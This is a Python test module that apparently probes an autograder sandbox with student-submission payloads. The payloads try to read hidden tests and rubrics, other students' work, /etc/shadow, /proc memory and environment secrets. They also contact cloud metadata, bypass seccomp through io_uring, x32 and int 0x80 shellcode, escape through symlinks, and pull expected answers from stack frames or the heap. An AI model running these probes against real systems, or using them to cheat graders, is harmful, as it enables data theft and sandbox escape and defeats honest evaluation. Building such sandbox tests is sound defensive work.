"""Attacks that try to read hidden files, or to reach other processes and machines."""

from attacks import Attack

LOOT = """
import os

def loot(what):
    for folder in ("<CANARY>", "/tmp", "/scratch", "/dev/shm"):
        try:
            open(os.path.join(folder, "<MARKER>-loot"), "a").write(str(what)[:1000])
        except OSError:
            pass
    globals()["found"] = what

found = None

def KLD(mean, log_std):
    if found is not None:
        raise RuntimeError(f"<MARKER>-found {found}")
    return mean.sum(-1) * 0
"""

ATTACKS = {
    "hidden tests": Attack(
        "read the tests, the rubric and the git history",
        LOOT
        + """
for name in ("tests/test_part1_vae.py", "tests/judge.py", "course/rubric.toml", ".git/HEAD", "part1_vae/train.py"):
    try:
        loot(open("<REPOSITORY>/" + name).read(100))
    except OSError:
        pass
""",
        everywhere=True,
    ),
    "other submissions": Attack(
        "read another student's work, both where it was submitted and where it is being graded",
        LOOT
        + """
import glob
here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
above = os.path.dirname(os.path.dirname(here))
for pattern in ("<OTHER>/*/*.py", "/tmp/staged-*/*/*/*.py", above + "/staged-*/*/*/*.py"):
    for path in glob.glob(pattern):
        if not path.startswith(here):
            try:
                loot(open(path).read(100))
            except OSError:
                pass
""",
        everywhere=True,
    ),
    "grades": Attack(
        "read and write the results",
        LOOT
        + """
for path in ("<CANARY>/secret", "/etc/passwd", "/etc/shadow", os.path.expanduser("~root")):
    for mode in ("r", "a", "w"):
        try:
            with open(path, mode) as file:
                loot(file.read(100) if mode == "r" else path)
        except OSError:
            pass
""",
        everywhere=True,
    ),
    "frames": Attack(
        "find expected values in the callers' stack frames",
        LOOT
        + """
def KLD(mean, log_std):
    import sys
    frame = sys._getframe()
    while frame:
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            if name in ("expected", "mistakes", "rng", "item", "session", "until"):
                raise RuntimeError(f"<MARKER>-found {name}")
        frame = frame.f_back
    return mean.sum(-1) * 0
""",
    ),
    "all objects": Attack(
        "find expected values among all objects",
        LOOT
        + """
def KLD(mean, log_std):
    import gc
    right = 0.5 * ((2 * log_std).exp() + mean**2 - 1) - log_std
    for thing in gc.get_objects():
        try:
            if isinstance(thing, torch.Tensor) and thing.shape == right.shape[:-1] and thing is not right:
                if torch.allclose(thing.double(), right.sum(-1).double()):
                    return thing
        except Exception:
            pass
    return mean.sum(-1) * 0
""",
    ),
    "/proc": Attack(
        "read the memory, environment and files of other processes",
        LOOT
        + """
for pid in [str(os.getppid()), *(name for name in (os.listdir("/proc") if os.access("/proc", os.R_OK) else []))]:
    for name in ("environ", "mem", "maps", "cmdline", "root/etc/passwd", "cwd/setup.cfg"):
        try:
            content = open(f"/proc/{pid}/{name}", "rb").read(100)
            if content and pid != str(os.getpid()) and pid.isdigit():
                loot((pid, name, content))
        except OSError:
            pass
""",
        everywhere=True,
    ),
    "descriptors": Attack(
        "use file descriptors that were left open",
        LOOT
        + """
import stat
for fd in range(1024):
    try:
        state = os.fstat(fd)
    except OSError:
        continue
    try:
        if stat.S_ISDIR(state.st_mode) and os.listdir(fd):
            loot(("folder", os.listdir(fd)))
        if stat.S_ISREG(state.st_mode) and os.pread(fd, 10, 0):
            loot(("file", os.pread(fd, 10, 0)))
    except OSError:
        pass
""",
        everywhere=True,
    ),
    "environment": Attack(
        "read from the environment, or leave something in it",
        LOOT
        + """
import sys
for name in os.environ:
    if any(word in name for word in ("TOKEN", "KEY", "SECRET", "USER", "SSH", "MARKER", "PYTEST")):
        loot(name)
os.environ.update(PYTHONSTARTUP="<CANARY>/x.py", PYTHONPATH="<CANARY>", LD_PRELOAD="<CANARY>/x.so", PATH="<CANARY>")
try:
    import subprocess
    loot(subprocess.run([sys.executable, "-c", "print(1)"], capture_output=True, timeout=5).returncode)
except (OSError, ImportError):
    pass
""",
        everywhere=True,
    ),
    "network": Attack(
        "reach this machine, cloud metadata and the internet through TCP, UDP and Unix sockets",
        LOOT
        + """
import socket
for family, kind, address in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", <PORT>)),
    (socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80)),
    (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", <PORT>)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", <PORT>)),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\\0<NAME>"),
    (socket.AF_UNIX, socket.SOCK_DGRAM, "\\0<NAME>-datagrams"),
    (socket.AF_NETLINK, socket.SOCK_RAW, (0, 0)),
):
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(0.5)
            one.connect(address)
            one.send(b"<MARKER>")
            loot(address)
    except OSError:
        pass
try:
    loot(socket.create_server(("0.0.0.0", 0)).getsockname())
except OSError:
    pass
""",
        everywhere=True,
    ),
    "io_uring": Attack(
        "make system calls that seccomp does not see",
        LOOT
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
ring = libc.syscall(425, 8, ctypes.create_string_buffer(256))
if ring >= 0:
    loot("io_uring")
""",
        everywhere=True,
    ),
    "x32 system calls": Attack(
        "make system calls through the x32 interface",
        LOOT
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number in (0x40000000 + 41, 0x40000000 + 57):
    if libc.syscall(ctypes.c_long(number), 2, 1, 0) >= 0:
        loot(number)
""",
    ),
    "32-bit machine code": Attack(
        "make system calls from 32-bit machine code (i386)",
        LOOT
        + """
import ctypes, mmap, platform

def KLD(mean, log_std):
    if platform.machine() != "x86_64":
        return mean
    code = bytes.fromhex("b814000000cd80c3")  # mov eax, 20 (getpid); int 0x80; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    raise RuntimeError(f"<MARKER>-found {call()}") if call() > 0 else RuntimeError("nothing")
""",
    ),
    "hidden inputs": Attack(
        "reveal the inputs of hidden tests in an exception's message",
        """
def KLD(mean, log_std):
    raise RuntimeError(f"<MARKER>-inputs {mean.shape} {mean.flatten()[:20].tolist()}")
KLD_per_dim = KLD
""",
    ),
    "links": Attack(
        "read other files through links",
        LOOT
        + """
import tempfile
for target in ("/", "<CANARY>", "<REPOSITORY>", "/etc", "/root", "/proc/1/root"):
    for folder in (tempfile.gettempdir(), os.path.dirname(__file__)):
        link = os.path.join(folder, "link" + str(abs(hash(target))))
        try:
            os.symlink(target, link)
            if any(name for name in os.listdir(link) if name in ("secret", "shadow", ".bashrc", "setup.cfg")):
                loot(target)
            open(os.path.join(link, "<MARKER>-through-a-link"), "w").write("x")
        except OSError:
            pass
        try:
            os.link(os.path.join(target, "secret"), link + ".hard")
            loot("hard link")
        except OSError:
            pass
""",
        everywhere=True,
    ),
}
